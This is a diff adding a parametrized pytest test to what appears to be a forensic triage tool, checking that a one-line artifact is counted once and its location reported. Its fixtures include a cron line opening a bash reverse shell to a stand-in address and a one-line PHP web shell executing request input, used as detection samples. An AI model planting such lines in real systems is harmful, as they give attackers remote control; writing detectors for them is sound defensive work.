@@ -83,6 +83,25 @@ def test_what_is_said_of_a_note_leads_to_the_words_of_its_family(tmp_path):
     assert "CONTI" in shown["a small file reads like a ransom note of Conti"][2]
 
 
+ONCE = {
+    "a shell": (
+        b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+        "bash -i >& /dev/tcp/",
+    ),
+    "a web shell": (b"<?php if (1) { system($_REQUEST['c']); } ?>\n", "system($_REQUEST"),
+}
+
+
+@pytest.mark.parametrize("what", ONCE)
+def test_one_line_is_counted_once_and_leads_to_what_it_is_about(what, tmp_path):
+    data, words = ONCE[what]
+    page = pages(triaged(case_of(tmp_path, artifact("/srv/a", data)))[0])["en.txt"]
+
+    assert "seen: 1\n" in page
+    assert f"byte {data.index(words.encode())}\n" in page
+    assert f"    {words}" in page
+
+
 LOGS = {
     "packed in another form": (
         "auth.log.1.xz", b"\xfd7zXZ\0", "xz 形式の圧縮は、ここでは読めません",
